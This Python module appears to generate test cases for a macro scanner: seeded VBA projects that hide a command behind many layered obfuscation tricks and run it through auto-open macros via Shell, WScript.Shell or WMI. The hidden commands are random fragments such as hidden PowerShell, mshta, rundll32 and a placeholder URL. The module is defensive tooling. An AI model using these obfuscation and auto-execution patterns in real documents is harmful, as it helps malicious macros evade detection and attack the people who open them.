"""Programs that hide a command the ways macros do, made from a seed: whoever evaluates one must come back with the command.

Each way of hiding is a function that takes a text and gives a VBA expression for it. What the expression needs (functions,
module variables, forms, document variables, cells) is added to the `Maker`. Ways nest: the pieces of a text are hidden in turn.
The values are worked out here in Python, never by the evaluator.
"""

from __future__ import annotations

import base64
import random
import string
from collections.abc import Callable

from emoscan.parse.bundle import Control, Document, Form, Module, Paragraph, Shape, VbaProject
from emoscan.parse.workbook import Cell, Sheet, Workbook

Way = Callable[["Maker", str], str]
WAYS: list[Way] = []
SPLITTING: list[Way] = []

WORDS = "cmd /c powershell -nop -w hidden -enc start mshta rundll32 files.example.test/a.txt,Go http://203.0.113.7/x?y=1 ^&| %TEMP%\\a.exe 'q' {0}"


def way(function: Way) -> Way:
    WAYS.append(function)
    return function


def splitting(function: Way) -> Way:
    """A way that hides the pieces of its text by other ways."""
    SPLITTING.append(function)
    return function


class Maker:
    """One program in the making."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.host = self.rng.choice(("word", "excel"))
        self.taken = {"m", "x"}
        self.declarations: list[str] = []
        self.functions: list[str] = []
        self.setup: list[str] = []
        """Statements that run before the command is put together."""
        self.controls: list[Control] = []
        self.variables: dict[str, str] = {}
        self.properties: dict[str, str | int | float | bool | None] = {}
        self.custom: dict[str, str | int | float | bool | None] = {}
        self.paragraphs: list[Paragraph] = []
        self.shapes: list[Shape] = []
        self.cells: list[Cell] = []
        self.classes: list[Module] = []
        self.used: list[str] = []
        self.depth = 0
        """How often ways may still be nested in the one that is at work."""

    # ------------------------------------------------------------ small things

    def name(self) -> str:
        while True:
            found = self.rng.choice(string.ascii_letters) + "".join(
                self.rng.choice(string.ascii_letters + string.digits + "_") for _ in range(self.rng.randint(4, 9))
            )
            if found.lower() not in self.taken and not found.endswith("_"):
                self.taken.add(found.lower())
                return found

    def number(self, value: int) -> str:
        """An expression for a whole number."""
        other = self.rng.randint(1, 900)
        match self.rng.randint(0, 6):
            case 0:
                return f"({value + other} - {other})"
            case 1:
                return f"&H{value:X}"
            case 2:
                return f"CLng({value}.{self.rng.randint(0, 4)})"
            case 3:
                return f"(&O{other:o} Xor {other ^ value})"
            case 4:
                return f"Len(String({value}, 65))" if value < 300 else str(value)
            case 5:
                return f'Val("{value} x")'
            case _:
                return str(value)

    def nothing(self) -> str:
        """An expression that adds nothing to a text: a name nobody assigned to, or an empty text."""
        return self.rng.choice((self.name(), '""', "vbNullString", 'Left("abc", 0)', 'Replace("zz", "z", "")'))

    def junk(self) -> str:
        a, b, n = self.name(), self.name(), self.rng.randint(2, 900)
        return self.rng.choice(
            (
                f"{a} = {n} * Sin({b}) + {n}",
                f"Select Case {a}\nCase {n}\n{b} = Log({n})\nCase {n + 1}\n{b} = CBool({a})\nEnd Select",
                f"If {n} = {n + 2} - {n} Then\n{a} = Chr({n % 200})\nEnd If",
                f"For {a} = 1 To {n % 20}\n{b} = {a} Mod 3\nNext {a}",
                f'Dim {a} As String: {a} = "{b}" & {n}',
                f"Do While {a} < 3\n{a} = {a} + 1\nLoop",
                f"While {a} < 2: {a} = {a} + 1: Wend",
                f"' {b}",
                f'{a} = Array({n}, "{b}", {n}.5)',
                f"#If {n} > 1 Then\n{a} = 1\n#Else\n{a} = \n#End If",
            )
        )

    def quoted(self, text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    def pieces(self, text: str, most: int = 5) -> list[str]:
        count = min(len(text), self.rng.randint(1, most))
        cuts = sorted(self.rng.sample(range(1, len(text)), count - 1)) if len(text) > 1 else []
        return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]

    def hide(self, text: str, depth: int = 2) -> str:
        """An expression for a text."""
        if not text:
            return self.nothing()
        chosen = self.rng.choice(SPLITTING if depth > 0 and len(text) > 3 and self.rng.random() < 0.55 else WAYS)
        self.used.append(chosen.__name__)
        self.depth = depth
        return chosen(self, text)

    def function(self, head: str, body: str, kind: str = "Function") -> str:
        """Add a function; `body` may say NAME for its name."""
        name = self.name()
        lines: list[str] = []
        for line in body.split("\n"):
            if "Case" not in body and not (lines and lines[-1].endswith(" _")) and self.rng.random() < 0.3:
                lines.append(self.junk())
            lines.append(line)
        scope = self.rng.choice(("", "Public ", "Private "))
        self.functions.append("\n".join((f"{scope}{kind} {name}({head})", *lines, f"End {kind}")).replace("NAME", name))
        return name

    # ------------------------------------------------------------ the whole

    def program(self, secret: str) -> VbaProject:
        expression = self.hide(secret, 3)
        command = self.name()
        entry, sink = self.rng.choice(ENTRIES[self.host]), self.rng.choice(SINKS)
        body = [self.junk() for _ in range(self.rng.randint(0, 4))]
        if self.rng.random() < 0.6:
            body.insert(0, "On Error Resume Next")
        body += [*self.setup, f"{command} = {expression}"]
        if self.rng.random() < 0.5:
            body.insert(self.rng.randint(0, len(body)), self.junk())
        body.append(sink(self, command))
        document = "ThisDocument" if self.host == "word" else "ThisWorkbook"
        main = f"Sub {entry}()\n" + "\n".join(body) + "\nEnd Sub"
        functions = self.functions
        self.rng.shuffle(functions)
        standard = Module("Module1", "\r\n".join((*self.declarations, *functions)).replace("\r\n", "\n").replace("\n", "\r\n"))
        if entry.startswith(("Document", "Workbook")):
            # The document's own module is called by the host, and calls what is public elsewhere.
            source = standard.source.replace("Private Function", "Function").replace("Private Sub", "Sub")
            modules = [Module(document, main, "document"), Module("Module1", source)]
        else:
            modules = [Module(document, "", "document"), Module("Module1", f"{standard.source}\r\n{main}")]
        forms = (Form("Frm", {"Caption": "Frm"}, tuple(self.controls)),) if self.controls else ()
        if forms:
            modules.append(Module("Frm", "", "form"))
        book = Workbook((Sheet("Data", code_name="Sheet1", cells=tuple(self.cells)),)) if self.host == "excel" else None
        made = Document(
            host=self.host,  # type: ignore[arg-type]
            code_name=document,
            forms=forms,
            variables=self.variables,
            properties=self.properties,
            custom_properties=self.custom,
            paragraphs=tuple(self.paragraphs),
            shapes=tuple(self.shapes),
            workbook=book,
        )
        return VbaProject((*modules, *self.classes), document=made)


ENTRIES = {
    "word": ("AutoOpen", "Document_Open", "autoopen", "Document_Close", "AutoClose"),
    "excel": ("Auto_Open", "Workbook_Open", "auto_open"),
}

SINKS: tuple[Callable[[Maker, str], str], ...] = (
    lambda m, c: f"Shell {c}, {m.number(0)}",
    lambda m, c: f"{m.name()} = Shell({c}, vbHide)",
    lambda m, c: f"Call Shell({c})",
    lambda m, c: f"VBA.Interaction.Shell {c} & {m.nothing()}, 0",
    lambda m, c: f'CreateObject("WScript" & ".Shell").Run {c}, 0, False',
    lambda m, c: f"Set {(o := m.name())} = CreateObject({m.quoted('Wscript.shell')})\nWith {o}\n.Exec ({c})\nEnd With",
    lambda m, c: f'GetObject("winmgmts:Win32_Process").Create {c}, Null, Null, {m.name()}',
    lambda m, c: (
        f'Set {(o := m.name())} = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\n{m.name()} = {o}.Create({c}, Null, Null, {m.name()})'
    ),
    lambda m, c: f'CallByName CreateObject("WScript.Shell"), "Run", VbMethod, {c}, 0',
    lambda m, c: f'CreateObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8").Run {c}',
    lambda m, c: f"Application.Run {m.quoted(m.function('c', 'Shell c, 0', 'Sub'))}, {c}",
    lambda m, c: f"{m.function('ByVal c As String', 'On Error GoTo 1' + chr(10) + '1: Interaction.Shell c, 0', 'Sub')} {c}",
)


# ---------------------------------------------------------------- one text, one expression


@way
def literal(m: Maker, text: str) -> str:
    return m.quoted(text)


@way
def characters(m: Maker, text: str) -> str:
    """Chr of sums."""
    return m.rng.choice((" & ", " + ")).join(
        f"{m.rng.choice(('Chr', 'ChrW', 'Chr$', 'VBA.Chr'))}({m.number(ord(c))})" for c in text[:30]
    ) + (f" & {m.quoted(text[30:])}" if len(text) > 30 else "")


@way
def turned_round(m: Maker, text: str) -> str:
    return f"StrReverse({m.quoted(text[::-1])})"


@way
def padded(m: Maker, text: str) -> str:
    """Junk that Replace takes out, and what is left out of what was put in its place."""
    junk = next(j for j in iter(lambda: m.name()[:4], "") if j not in text and j[0] not in text)
    inside = "".join(c + (junk if m.rng.random() < 0.4 else "") for c in text)
    if m.rng.random() < 0.5:
        return f"Replace({m.quoted(inside)}, {m.quoted(junk)}, {m.nothing()})"
    other = next(j for j in iter(lambda: m.name()[:3], "") if j not in inside and j not in junk)
    return f'Replace(Replace({m.quoted(inside.replace(junk, other))}, {m.quoted(other)}, {m.quoted(junk)}), {m.quoted(junk)}, "")'


@way
def split_and_joined(m: Maker, text: str) -> str:
    mark = next(c for c in "#~§!;:@" + "".join(map(chr, range(0x4E00, 0x4E20))) if c not in text)
    parts = m.pieces(text, 8)
    if m.rng.random() < 0.5:
        return f"Join(Split({m.quoted(mark.join(parts))}, {m.quoted(mark)}), {m.quoted('')})"
    f = m.function("s, d", "Dim p: p = Split(s, d)\nFor i = LBound(p) To UBound(p)\nNAME = NAME & p(i)\nNext i")
    return f"{f}({m.quoted(mark.join(parts))}, {m.quoted(mark)})"


@way
def numbers_by_xor(m: Maker, text: str) -> str:
    key = m.rng.randint(1, 255)
    codes = [ord(c) ^ key for c in text]
    f = m.function(
        "a, k",
        m.rng.choice(
            (
                "Dim i As Long\nFor i = 0 To UBound(a)\nNAME = NAME & Chr(a(i) Xor k)\nNext",
                "For Each c In a\nNAME = NAME + Chr(c Xor k)\nNext c",
                "Dim s$\ni% = LBound(a)\nDo Until i% > UBound(a)\ns$ = s$ & Chr$(a(i%) Xor k): i% = i% + 1\nLoop\nNAME = s$",
            )
        ),
    )
    return f"{f}(Array({', '.join(map(str, codes))}), {m.number(key)})"


@way
def text_by_key(m: Maker, text: str) -> str:
    """Xor with the letters of a key, in hexadecimal."""
    key = m.name()
    data = "".join(f"{ord(c) ^ ord(key[i % len(key)]):02x}" for i, c in enumerate(text))
    f = m.function(
        "ByVal h As String, k",
        'Dim i As Integer, n As Integer\nFor i = 1 To Len(h) Step 2\nn = Val("&H" & Mid$(h, i, 2)) Xor Asc(Mid(k, ((i - 1) \\ 2) Mod Len(k) + 1, 1))\n'
        "NAME = NAME & Chr(n)\nNext i",
    )
    return f"{f}({m.quoted(data)}, {m.quoted(key)})"


@way
def hexadecimal(m: Maker, text: str) -> str:
    f = m.function("h", 'For i = 1 To Len(h) Step 2\nNAME = NAME & Chr(CInt("&H" + Mid(h, i, 2)))\nNext')
    return f"{f}({m.quoted(text.encode('latin-1').hex())})"


@way
def every_other(m: Maker, text: str) -> str:
    step = m.rng.randint(2, 4)
    inside = "".join(c + "".join(m.rng.choice(string.ascii_letters) for _ in range(step - 1)) for c in text)
    if m.rng.random() < 0.5:
        f = m.function("s, n", "p = 1\nWhile p <= Len(s)\nNAME = NAME & Mid(s, p, 1)\np = p + n\nWend")
        return f"{f}({m.quoted(inside)}, {m.number(step)})"
    f = m.function("s, n", "For i = Len(s) To 1 Step -1\nIf (i - 1) Mod n = 0 Then NAME = Mid(s, i, 1) & NAME\nNext")
    return f"{f}({m.quoted(inside)}, {step})"


@way
def shifted(m: Maker, text: str) -> str:
    by = m.rng.randint(1, 20)
    inside = "".join(chr(ord(c) + by) for c in text)
    f = m.function(
        "s As String, n As Integer",
        "Dim b() As Byte, i As Long\nb = StrConv(s, vbFromUnicode)\nFor i = 0 To UBound(b)\nb(i) = b(i) - n\nNext\nNAME = StrConv(b, vbUnicode)",
    )
    return f"{f}({m.quoted(inside)}, {by})" if all(ord(c) < 128 for c in inside) else numbers_by_xor(m, text)


@way
def bytes_of_text(m: Maker, text: str) -> str:
    """A Byte array is the UTF-16 of a text."""
    f = m.function(
        "a",
        "Dim b() As Byte, i%\nReDim b(2 * (UBound(a) + 1) - 1)\nFor i = 0 To UBound(a)\nb(2 * i) = a(i)\nNext\nNAME = b",
    )
    return f"CStr({f}(Array({', '.join(str(ord(c)) for c in text)})))"


@way
def substituted(m: Maker, text: str) -> str:
    """Letters looked up in one alphabet by their place in another."""
    plain = sorted(set(string.ascii_letters + string.digits) | set(text))
    mixed = plain.copy()
    m.rng.shuffle(mixed)
    table = dict(zip(plain, mixed, strict=True))
    f = m.function(
        "s, a, b",
        "Dim i As Integer\nFor i = 1 To Len(s)\nNAME = NAME & Mid$(a, InStr(1, b, Mid$(s, i, 1), vbBinaryCompare), 1)\nNext i",
    )
    inside = "".join(table[c] for c in text)
    return f"{f}({m.quoted(inside)}, {m.quoted(''.join(plain))}, {m.quoted(''.join(mixed))})"


@way
def dictionary(m: Maker, text: str) -> str:
    """Each letter by a key of a Dictionary or Collection."""
    keys = {c: m.name() for c in dict.fromkeys(text)}
    fill = "\n".join(f"d.Add {m.quoted(k)}, {m.quoted(c)}" for c, k in keys.items())
    order = " ".join(keys[c] for c in text)
    kind = m.rng.choice(('Set d = CreateObject("Scripting.Dictionary")', "Dim d As New Scripting.Dictionary"))
    read = m.rng.choice(("d(k)", "d.Item(k)"))
    if m.rng.random() < 0.4:
        kind, fill = "Dim d As New Collection", "\n".join(f"d.Add {m.quoted(c)}, {m.quoted(k)}" for c, k in keys.items())
    f = m.function("s", f'{kind}\n{fill}\nFor Each k In Split(s, " ")\nNAME = NAME & {read}\nNext')
    return f"{f}({m.quoted(order)})"


@way
def dom_base64(m: Maker, text: str) -> str:
    f = m.function(
        "s",
        'Set n = CreateObject("Msxml2.DOMDocument.3.0").createElement("b")\nn.DataType = "bin.base64"\nn.Text = s\nNAME = StrConv(n.nodeTypedValue, 64)',
    )
    return f"{f}({m.quoted(base64.b64encode(text.encode('latin-1')).decode())})"


@way
def own_base64(m: Maker, text: str) -> str:
    """The decoder that is written out in many macros."""
    alphabet = string.ascii_uppercase + string.ascii_lowercase + string.digits + "+/"
    f = m.function(
        "s",
        f'Const B = "{alphabet}"\nDim g As Long, i As Integer, j As Integer, c As Integer, n As Integer, o As String\n'
        's = Replace(s, vbCrLf, "")\n'
        "For g = 1 To Len(s) Step 4\nn = 3: q = 0\nFor j = 0 To 3\nc = InStr(1, B, Mid(s, g + j, 1), vbBinaryCompare) - 1\n"
        'If Mid(s, g + j, 1) = "=" Then n = n - 1: c = 0\nq = 64 * q + c\nNext\n'
        'x = Hex(q)\nx = String(6 - Len(x), "0") & x\no = Chr(CByte("&H" & Mid(x, 1, 2))) + Chr(CByte("&H" & Mid(x, 3, 2))) + Chr(CByte("&H" & Mid(x, 5, 2)))\n'
        "NAME = NAME & Left(o, n)\nNext",
    )
    return f"{f}({m.quoted(base64.b64encode(text.encode('latin-1')).decode())})"


@way
def on_a_form(m: Maker, text: str) -> str:
    member, kind = m.rng.choice(
        (("Caption", "Label"), ("Text", "TextBox"), ("Value", "TextBox"), ("Tag", "CommandButton"), ("ControlTipText", "Frame"))
    )
    name = m.name()
    values: dict[str, str | int | float | bool | None] = {("Value" if member == "Text" else member): text}
    m.controls.append(Control(name, kind, values))
    return m.rng.choice((f"Frm.{name}.{member}", f'Frm.Controls("{name}").{member}', f"Frm.Controls({len(m.controls) - 1}).{member}"))


@way
def in_the_document(m: Maker, text: str) -> str:
    name = m.name()
    if m.host == "excel":
        row, column = len(m.cells) + 1, m.rng.randint(0, 20)
        m.cells.append(Cell(row, column + 1, text))
        place = f"{string.ascii_uppercase[column]}{row}"
        return m.rng.choice(
            (
                f'Sheets(1).Range("{place}").Value',
                f'Worksheets("Data").Cells({row}, {column + 1})',
                f"Sheet1.Cells({row}, {column + 1}).Value2",
                f'ActiveSheet.Range("{place}")',
                f'ThisWorkbook.Sheets("data").[{place}]',
            )
        )
    match m.rng.randint(0, 4):
        case 0:
            m.variables[name] = text
            return f'ActiveDocument.Variables("{name}").Value'
        case 1:
            m.custom[name] = text
            return f'ThisDocument.CustomDocumentProperties("{name}")'
        case 2 if "Comments" not in m.properties:
            m.properties["Comments"] = text
            return m.rng.choice(
                ('ActiveDocument.BuiltInDocumentProperties("Comments")', "ActiveDocument.BuiltInDocumentProperties(5).Value")
            )
        case 3:
            m.shapes.append(Shape(name, "" if len(m.shapes) % 2 else text, text, type="textbox"))
            return f'ActiveDocument.Shapes("{name}").AlternativeText'
        case _:
            m.paragraphs.append(Paragraph(text))
            where = f"ActiveDocument.Paragraphs({len(m.paragraphs)}).Range.Text"
            return f'Replace({where}, vbCr, "")'


@way
def constant(m: Maker, text: str) -> str:
    name = m.name()
    m.declarations.append(
        f"Public Const {name} = {m.quoted(text)}" if m.rng.random() < 0.5 else f"Const {name} As String = {m.quoted(text)}"
    )
    if m.declarations[-1].startswith("Const"):
        m.declarations[-1] = "Public " + m.declarations[-1]
    return name


@way
def case_folded(m: Maker, text: str) -> str:
    if text == text.lower():
        return f"LCase({m.quoted(''.join(m.rng.choice((c, c.upper())) for c in text))})"
    return f"Trim({m.quoted(text.strip(' '))})" if text.strip(" ") == text else m.quoted(text)


@way
def picked(m: Maker, text: str) -> str:
    """The right one of several texts."""
    wrong, right = m.quoted(m.name()), m.quoted(text)
    n = m.rng.randint(1, 3)
    choices = [wrong, wrong, wrong]
    choices[n - 1] = right
    f = m.function(
        "n", f"Select Case n\nCase Is > 900: NAME = {wrong}\nCase {n}, 700 To 800\nNAME = {right}\nCase Else\nNAME = {wrong}\nEnd Select"
    )
    return m.rng.choice(
        (
            f"Choose({m.number(n)}, {', '.join(choices)})",
            f"IIf({m.number(n)} > {n - 1}, {right}, {wrong})",
            f"Switch({n} = {n + 1}, {wrong}, True, {right})",
            f"{f}({m.number(n)})",
            f"Array({', '.join(choices)})({n - 1})",
        )
    )


# ---------------------------------------------------------------- pieces, hidden by other ways


def hidden_pieces(m: Maker, text: str, most: int = 5) -> list[str]:
    depth = m.depth - 1
    return [m.hide(piece, depth) for piece in m.pieces(text, most)]


@splitting
def joined(m: Maker, text: str) -> str:
    parts = hidden_pieces(m, text)
    sign = m.rng.choice((" & ", " + ", " _\n & "))
    return "(" + sign.join(p for part in parts for p in ((part,) if m.rng.random() < 0.7 else (part, m.nothing()))) + ")"


@splitting
def array_of_pieces(m: Maker, text: str) -> str:
    return f"Join(Array({', '.join(hidden_pieces(m, text))}), {m.rng.choice(('vbNullString', m.quoted('')))})"


@splitting
def by_functions(m: Maker, text: str) -> str:
    """Each piece comes out of a function."""
    parts = hidden_pieces(m, text)
    return " & ".join(f"{m.function('', f'NAME = {part}')}{m.rng.choice(('', '()'))}" if m.rng.random() < 0.7 else part for part in parts)


@splitting
def module_variables(m: Maker, text: str) -> str:
    """Variables of the module that another procedure fills."""
    names, fill = [], []
    for part in hidden_pieces(m, text):
        names.append(m.name())
        m.declarations.append(f"Public {names[-1]}{m.rng.choice(('', ' As String', ' As Variant'))}")
        fill.append(f"{names[-1]} = {part}")
    m.setup.append(m.rng.choice(("Call {}", "{}")).format(m.function("", "\n".join(fill), "Sub")))
    # What the pieces are made of is filled before this.
    return "(" + " & ".join(names) + ")"


@splitting
def by_reference(m: Maker, text: str) -> str:
    """A procedure adds to the text it is given."""
    add = m.function("ByRef t As String, ByVal p", "t = t & p", "Sub")
    calls = "\n".join(f"{add} t, {part}" for part in hidden_pieces(m, text))
    return f"{m.function('', f'Dim t As String{chr(10)}{calls}{chr(10)}NAME = t')}()"


@splitting
def grown_array(m: Maker, text: str) -> str:
    lines = ["Dim a() As String, i As Long"]
    for i, part in enumerate(hidden_pieces(m, text)):
        lines += [f"ReDim Preserve a({i})", f"a({i}) = {part}"]
    lines += ["For i = LBound(a) To UBound(a)", "NAME = NAME & a(i)", "Next i"]
    return m.function("", "\n".join(lines)) + "()"


@splitting
def any_number(m: Maker, text: str) -> str:
    f = m.function("ParamArray p()", "For Each q In p\nNAME = NAME & q\nNext q")
    return f"{f}({', '.join(hidden_pieces(m, text))})"


@splitting
def written_over(m: Maker, text: str) -> str:
    """The Mid statement fills a text of the right length."""
    lines = ["Dim t As String", f"t = String({len(text)}, 95)"]
    at = 1
    for piece in m.pieces(text):
        lines.append(f"Mid(t, {at}, {len(piece)}) = {m.hide(piece, 0)}")
        at += len(piece)
    return m.function("", "\n".join([*lines, "NAME = t"])) + "()"


@splitting
def jumps(m: Maker, text: str) -> str:
    """Pieces put together in an order that only the jumps know."""
    parts = hidden_pieces(m, text)
    labels = [m.name() for _ in parts]
    end = m.name()
    blocks = [f"{labels[i]}:\nNAME = NAME & {part}\nGoTo {labels[i + 1] if i + 1 < len(parts) else end}" for i, part in enumerate(parts)]
    m.rng.shuffle(blocks)
    body = "\n".join((f"GoTo {labels[0]}", *blocks, f"{end}:"))
    return m.function("", body.replace("\nNAME", "\n NAME")) + "()"


@splitting
def states(m: Maker, text: str) -> str:
    """A loop over the numbers of states."""
    parts = hidden_pieces(m, text)
    numbers = m.rng.sample(range(10, 500), len(parts) + 1)
    cases = [f"ElseIf s = {numbers[i]} Then\nr = r & {part}\ns = {numbers[i + 1]}" for i, part in enumerate(parts)]
    m.rng.shuffle(cases)
    name = m.name()
    lines = [
        f"Dim r, s: s = {numbers[0]}",
        f"Do While s <> {numbers[-1]}",
        "If s = 9 Then",
        *"\n".join(cases).split("\n"),
        "End If",
        "Loop",
        f"{name} = r",
    ]
    m.functions.append("\n".join((f"Function {name}()", *lines, "End Function")))
    return f"{name}()"


@splitting
def object_of_a_class(m: Maker, text: str) -> str:
    name, member = m.name(), m.name()
    parts = hidden_pieces(m, text)
    source = f"Private t As String\nPublic Property Let {member}(v As String)\nt = t & v\nEnd Property\nPublic Property Get {member}() As String\n{member} = t\nEnd Property\n"
    m.classes.append(Module(name, source, "class"))
    lines = [
        f"Dim o As New {name}" if m.rng.random() < 0.5 else f"Dim o As {name}\nSet o = New {name}",
        *(f"o.{member} = {p}" for p in parts),
        f"NAME = o.{member}",
    ]
    return m.function("", "\n".join(lines)) + "()"


@splitting
def record(m: Maker, text: str) -> str:
    type_ = m.name()
    parts = hidden_pieces(m, text, 3)
    fields = [m.name() for _ in parts]
    m.declarations.append("\n".join((f"Public Type {type_}", *(f"{f} As String" for f in fields), "End Type")))
    lines = [
        f"Dim r As {type_}",
        *(f"r.{f} = {p}" for f, p in zip(fields, parts, strict=True)),
        "With r",
        f"NAME = {' & '.join('.' + f for f in fields)}",
        "End With",
    ]
    return m.function("", "\n".join(lines)) + "()"


@splitting
def recursion(m: Maker, text: str) -> str:
    parts = hidden_pieces(m, text)
    f = m.function("a, ByVal i", "If i > UBound(a) Then Exit Function\nNAME = a(i) & NAME(a, i + 1)")
    return f"{f}(Array({', '.join(parts)}), 0)"


@splitting
def named_arguments(m: Maker, text: str) -> str:
    parts = [m.hide(text[: len(text) // 2], 0), m.hide(text[len(text) // 2 :], 0)]
    f = m.function('first, Optional last = ""', "NAME = first & last")
    return f"{f}(last:={parts[1]}, first:={parts[0]})"


@splitting
def after_an_error(m: Maker, text: str) -> str:
    """The handler of an error goes on with the work."""
    first, last = m.hide(text[: len(text) // 2], 0), m.hide(text[len(text) // 2 :], 0)
    label = m.name()
    return (
        m.function(
            "", f'On Error GoTo {label}\nNAME = {first}\nx = 1 / Val("0")\nNAME = "wrong"\nExit Function\n{label}:\nNAME = NAME & {last}'
        )
        + "()"
    )


@splitting
def taken_back(m: Maker, text: str) -> str:
    """Both ends cut off."""
    left, right = m.name(), m.name()
    inner = m.hide(left + text + right, m.depth - 1)
    return m.rng.choice((f"Mid({inner}, {len(left) + 1}, {len(text)})", f"Left(Right({inner}, {len(text) + len(right)}), {len(text)})"))


def secret(rng: random.Random) -> str:
    words = WORDS.split(" ")
    return " ".join(rng.choice(words) for _ in range(rng.randint(2, 9)))


def program(seed: int) -> tuple[VbaProject, str, list[str]]:
    """(project, the command it hides, names of the ways used)."""
    maker = Maker(seed)
    hidden = secret(maker.rng)
    return maker.program(hidden), hidden, maker.used
